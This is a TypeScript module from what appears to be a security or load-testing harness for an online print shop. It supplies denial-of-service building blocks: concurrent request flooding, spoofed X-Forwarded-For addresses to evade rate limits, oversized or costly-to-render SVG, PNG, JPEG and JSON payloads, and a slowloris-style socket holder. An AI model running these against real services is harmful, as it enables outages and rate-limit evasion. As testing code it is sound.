/** Building blocks of attacks: ways to send repeatedly, and payloads that cost more than their size. */
import { Agent } from 'node:http';
import { connect } from 'node:net';
import sharp from 'sharp';
import { makePng } from '../pictures.ts';
import { type FuzzRequest, send } from '../requests.ts';

export type Target = {
  origin: URL;
  /** The attacker's own sandbox shops. */
  shops: { shopId: string; key: string; secret: string }[];
  /** The attacker's claimed shop, with as many listings as one import makes, and its owner's key. */
  seller: { shopId: string; key: string; listingId: string };
  /** The victim's shop: its public id and its owner's address are known to anyone. */
  victim: { shopId: string; email: string };
  /** A mug: everyone reads the catalog. */
  mugVariantId: string;
  /** The attacker's server: `/big`, `/slow`, `/svg`, `/dashes`, `/jpeg`. */
  lair: string;
};

const agent = new Agent({ keepAlive: true, maxSockets: 60 });
export const json = { 'content-type': 'application/json' };
export const form = { 'content-type': 'application/x-www-form-urlencoded' };

let counter = 0;
/** One of a hundred addresses: an attacker has some, but not all. */
export const address = (): string => {
  counter += 1;
  return `10.66.0.${counter % 100}`;
};

export async function repeat(
  signal: AbortSignal,
  lanes: number,
  pauseMs: number,
  once: (number: number) => Promise<unknown>,
): Promise<void> {
  let number = 0;
  const lane = async () => {
    while (!signal.aborted) {
      number += 1;
      await once(number).catch(() => undefined);
      if (pauseMs > 0) await new Promise((resolve) => setTimeout(resolve, pauseMs));
    }
  };
  await Promise.all(Array.from({ length: lanes }, lane));
}

export const asked = (
  target: Target,
  method: string,
  path: string,
  headers: Record<string, string>,
  body?: string | Buffer,
): Promise<unknown> => {
  const request: FuzzRequest = { name: '', method, path, headers: { 'x-forwarded-for': address(), ...headers } };
  if (body !== undefined) request.body = body;
  return send(target.origin, agent, request);
};

export const shopOf = (target: Target, number: number) => target.shops[number % target.shops.length]!;
export const keyOf = (target: Target, number: number) => ({ ...json, 'x-api-key': shopOf(target, number).key });
export const upload = (bytes: Buffer): Buffer => Buffer.from(JSON.stringify({ base64Image: bytes.toString('base64') }));
export const svg = (inside: string) =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900">${inside}</svg>`);

export const comments = upload(Buffer.from(`${'<!-- -->'.repeat(28)}<x`));
export const longText = svg(`<text y="50">${'MW'.repeat(5000)}</text>`);
export const fineDashes = svg(`<path d="M0 0${'L900 900L0 0'.repeat(200)}" stroke="#000" stroke-dasharray="0.02"/>`);
export const textUpload = upload(longText);
export const dashUpload = upload(fineDashes);
export const tailUpload = upload(Buffer.concat([makePng(1, 1), Buffer.alloc(8_000_000)]));
export const manyNames = JSON.stringify({
  dryRun: true,
  items: [],
  ...Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`fieldname${i}`, 1])),
});
export const longFilter = JSON.stringify({ filter: Array.from({ length: 20_000 }, (_, i) => `category = x${i}`) });
export const manySearches = JSON.stringify({
  queries: Array.from({ length: 200 }, () => ({
    indexUid: 'products',
    q: 'shrit hodie mgu blu',
    facets: ['*'],
    attributesToHighlight: ['*'],
  })),
});
export const buyer =
  'name=Ada&line1=1+Main+St&city=Austin&state=TX&postalCode=78701&quantity=1&speed=economy&action=pay&number=4000000000000002&expiry=12%2F40&cvc=123';

export const shopFiles = ['feeds/google.xml', 'feeds/pinterest.csv', 'feeds/pinterest.tsv', 'sitemap.xml'];
/** The variants of a product with many of them, each an item of a feed. */
export const sheetOf = (lines: number, artworkUrl: string): string => {
  const line = `TEE-UNISEX,${'Fox & heron '.repeat(10)},published,${artworkUrl},${'A long paragraph. '.repeat(40)}\n`;
  return `product,title,status,artwork,description\n${line.repeat(lines)}`;
};

export const progressiveJpeg: Promise<Buffer> = (async () =>
  sharp({ create: { width: 9000, height: 8000, channels: 3, background: '#7a3' } })
    .jpeg({ progressive: true, quality: 70 })
    .toBuffer())();

export const buyPath = (target: Target, asset: string) =>
  `/buy/POSTER-FRAMED?shop=${target.victim.shopId}&asset=${encodeURIComponent(asset)}`;
export const mockupPath = (target: Target, number: number, asset: string) =>
  `/mockup/POSTER-FRAMED?shop=${shopOf(target, number).shopId}&asset=${encodeURIComponent(asset)}&width=200`;

/** Sockets that are opened and then stay open, sending little or nothing. */
export async function hold(
  target: Target,
  signal: AbortSignal,
  count: number,
  head: string,
  drip: string,
  everyMs: number,
): Promise<void> {
  const open = Array.from({ length: count }, () => {
    const socket = connect(Number(target.origin.port), '127.0.0.1');
    socket.on('error', () => {});
    socket.on('connect', () => socket.write(head));
    socket.on('data', () => {});
    return socket;
  });
  const timer = setInterval(() => {
    for (const socket of open) if (socket.writable) socket.write(drip);
  }, everyMs);
  await new Promise<void>((resolve) => signal.addEventListener('abort', () => resolve(), { once: true }));
  clearInterval(timer);
  for (const socket of open) socket.destroy();
}
